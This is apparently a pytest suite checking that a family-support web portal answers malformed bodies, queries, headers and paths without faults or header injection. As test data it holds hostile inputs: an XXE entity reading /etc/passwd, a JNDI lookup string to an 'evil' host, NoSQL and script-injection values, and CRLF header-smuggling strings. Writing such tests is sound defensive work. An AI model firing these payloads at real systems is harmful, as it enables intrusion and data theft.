"""Requests that no browser sends: broken bodies, questions, headers and addresses. Answered in words, never a fault."""

import time

import pytest

from portal.security import passwords
from tests.support.visitors import HOST

# --- Bodies


def send(browser, body, kind, path="/sign-in", **headers):
    """Send bytes as they are, with a token where there is none in them."""
    return browser.client.post(
        path, base_url=HOST, data=body, content_type=kind, headers={**browser.headers, **headers}
    )


MULTIPART = 'multipart/form-data; boundary="edge"'
ODD = {
    "no boundary": (b"--edge\r\n\r\nx", "multipart/form-data"),
    "an empty boundary": (b"--\r\n\r\nx", "multipart/form-data; boundary="),
    "a long boundary": (b"x", f"multipart/form-data; boundary={'e' * 5000}"),
    "no end": (b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\nx', MULTIPART),
    "no disposition": (b"--edge\r\n\r\nx\r\n--edge--\r\n", MULTIPART),
    "a broken header": (b"--edge\r\n\xff\xfe: \x00\r\n\r\nx\r\n--edge--\r\n", MULTIPART),
    "a strange charset": (b"name=x", "application/x-www-form-urlencoded; charset=rot13"),
    "another charset": (b"n\x00a\x00m\x00e\x00", "application/x-www-form-urlencoded; charset=utf-16"),
    "a field in a charset of its own": (
        (
            b"--edge\r\nContent-Disposition: form-data; name=csrf_token\r\n"
            b"Content-Type: text/plain; charset=rot13\r\n\r\nx\r\n--edge--\r\n"
        ),
        MULTIPART,
    ),
    "a file for a word": (
        b'--edge\r\nContent-Disposition: form-data; name="name"; filename="a"\r\n\r\nx\r\n--edge--\r\n',
        MULTIPART,
    ),
    "words that are no UTF-8": (b"name=%ff%fe%80&password=%c3%28", "application/x-www-form-urlencoded"),
    "bytes that are no UTF-8": (b"name=\xff\xfe&\x80=\x00", "application/x-www-form-urlencoded"),
    "halves of characters": (b"name=%ed%a0%80&password=%ed%b0%80", "application/x-www-form-urlencoded"),
    "zeros": (b"name=%00&password=%00&once=%00", "application/x-www-form-urlencoded"),
    "json": (b'{"name": {"$ne": null}}', "application/json"),
    "xml": (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "application/xml"),
    "no kind": (b"name=x", ""),
    "a kind that is none": (b"name=x", "\N{SNOWMAN}".encode().decode("latin-1")),
    "gzip that is none": (b"\x1f\x8b" + bytes(50), "application/x-www-form-urlencoded"),
    "half a number": (b"name=%", "application/x-www-form-urlencoded"),
    "ten thousand fields": (
        b"&".join(b"f%d=x" % number for number in range(10_000)),
        "application/x-www-form-urlencoded",
    ),
    "one name ten thousand times": (b"name=x&" * 10_000, "application/x-www-form-urlencoded"),
}


@pytest.mark.parametrize("case", ODD)
@pytest.mark.parametrize(
    "path", ["/sign-in", "/join", "/family/goals/new", "/worker/account/photo", "/sign-out", "/exit"]
)
def test_a_broken_body_is_refused_in_words_and_never_a_fault(visit, make, case, path):
    body, kind = ODD[case]
    browser = visit(make.worker() if path.startswith("/worker") else make.parent())

    assert send(browser, body, kind, path).status_code in {204, 303, 400, 404, 413, 422}


def test_a_body_too_big_is_refused_wherever_it_is_sent(visit, make):
    browser = visit(make.parent())
    for path in ("/sign-in", "/join", "/family/goals/new", "/family/account/language", "/nowhere"):
        answer = send(browser, b"name=" + b"x" * 1_100_000, "application/x-www-form-urlencoded", path)
        assert answer.status_code in {404, 413}, path


def test_too_many_parts_are_refused(visit):
    part = b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n'

    assert send(visit(), part * 250 + b"--edge--\r\n", MULTIPART).status_code == 413


@pytest.mark.usefixtures("dear_hashes")
def test_half_a_million_small_fields_hold_a_process_for_a_few_passwords_time_at_most(visit):
    """Beside the time of one password's hash, so that a slow machine is judged by its own measure."""
    browser = visit()

    def takes(act):
        began = time.perf_counter()
        act()
        return time.perf_counter() - began

    one_hash = min(takes(lambda: passwords.hashed("tair-afal-goch-2026")) for _ in range(3))
    many = takes(lambda: send(browser, b"a&" * 490_000, "application/x-www-form-urlencoded"))
    assert many < 20 * one_hash


@pytest.mark.parametrize(
    "query",
    ["lang=%00", "lang=%ff", "lang[]=cy", "lang=cy&lang=en", "%", "a=%u0041", "=&=&", "lang=" + "x" * 5000, "\x00"],
)
def test_a_broken_question_is_answered(visit, make, query):
    browser = visit(make.parent())
    for path in ("/", "/family/", "/family/goals", "/manifest.webmanifest"):
        assert browser.fetch("GET", f"{path}?{query}").status_code in {200, 303, 400}


# --- Headers


BROKEN_HEADERS = {
    "Accept-Language": ["\xff", "cy;q=abc", "*;q=-1", "x" * 9000, "cy;q=1e999", ",,,;;;", "en-\x80"],
    "Accept-Encoding": ["gzip;q=nan", "x" * 9000, ";;"],
    "Accept": ["*/*;q=x", "text/html;level=\xff", "/"],
    "Cookie": [
        "__Host-nod=",
        "__Host-nod=x.y.z",
        "__Host-nod=" + "A" * 9000,
        "\xff=\xff",
        "__Host-nod=eyJ.a.b; __Host-nod=b",
    ],
    "User-Agent": ["", "x" * 9000, "\xff\xfe", "${jndi:ldap://evil}", "<script>alert(1)</script>"],
    "Range": ["bytes=0-", "bytes=-99999999999999", "bytes=a-b"],
    "If-Modified-Since": ["never", "Thu, 99 Abc 9999 99:99:99 GMT"],
    "If-None-Match": ['"', "*", "W/\xff"],
    "Content-Length": ["0"],
    "HX-Request": ["true", "maybe", "\xff"],
    "HX-Current-URL": ["https://evil.example", "\xff"],
    "HX-Target": ["<b>", "x" * 9000],
    "Sec-Fetch-Site": ["cross-site", "\xff"],
    "X-Forwarded-For": ["\xff", "1.2.3.4, <script>", "x" * 9000],
    "Authorization": ["Basic \xff", "Bearer ", "Digest x"],
}


@pytest.mark.parametrize("name", BROKEN_HEADERS)
def test_a_broken_header_is_answered(visit, make, name):
    inside, outside = visit(make.parent()), visit()
    for value in BROKEN_HEADERS[name]:
        for browser, path in ((outside, "/"), (outside, "/sign-in"), (inside, "/family/"), (inside, "/nowhere")):
            if name == "Cookie" and browser is inside:
                continue
            assert browser.fetch("GET", path, headers={name: value}).status_code in {200, 303, 400, 404}


@pytest.mark.parametrize(
    "smuggled", ["x%0d%0aSet-Cookie:%20a=b", "x%0aX-Evil:%20y", "x%0d%0a%0d%0a<script>", "%e5%98%8a%e5%98%8dX:y"]
)
def test_nothing_typed_becomes_a_header(visit, make, smuggled):
    parent = make.parent()
    inside, outside = visit(parent), visit()
    answers = [
        outside.fetch("GET", f"/join/{smuggled}"),
        outside.fetch("GET", f"/?lang={smuggled}"),
        inside.fetch("GET", f"/family/?lang={smuggled}"),
        inside.fetch("GET", f"/family/{smuggled}"),
        outside.fetch("GET", f"/family/{smuggled}"),
        visit(parent.family.keyworker).fetch("GET", f"/worker/families/{smuggled}/"),
        outside.fetch("POST", "/join", body=f"csrf_token={outside.token()}&code={smuggled}"),
    ]
    for answer in answers:
        assert answer.status_code in {200, 303, 404, 422}
        assert "X-Evil" not in answer.headers
        assert "X" not in answer.headers
        assert not any("a=b" in cookie for cookie in answer.headers.getlist("Set-Cookie"))


@pytest.mark.parametrize(
    "path", ["/demo/%00", "/join/%00", "/join/" + "x" * 3000, "/family/goals/" + "0" * 300, "/worker/families/%ff/"]
)
def test_a_broken_address_leads_nowhere(visit, make, path):
    for browser in (visit(), visit(make.parent()), visit(make.worker())):
        assert browser.fetch("GET", path).status_code in {303, 404, 405}
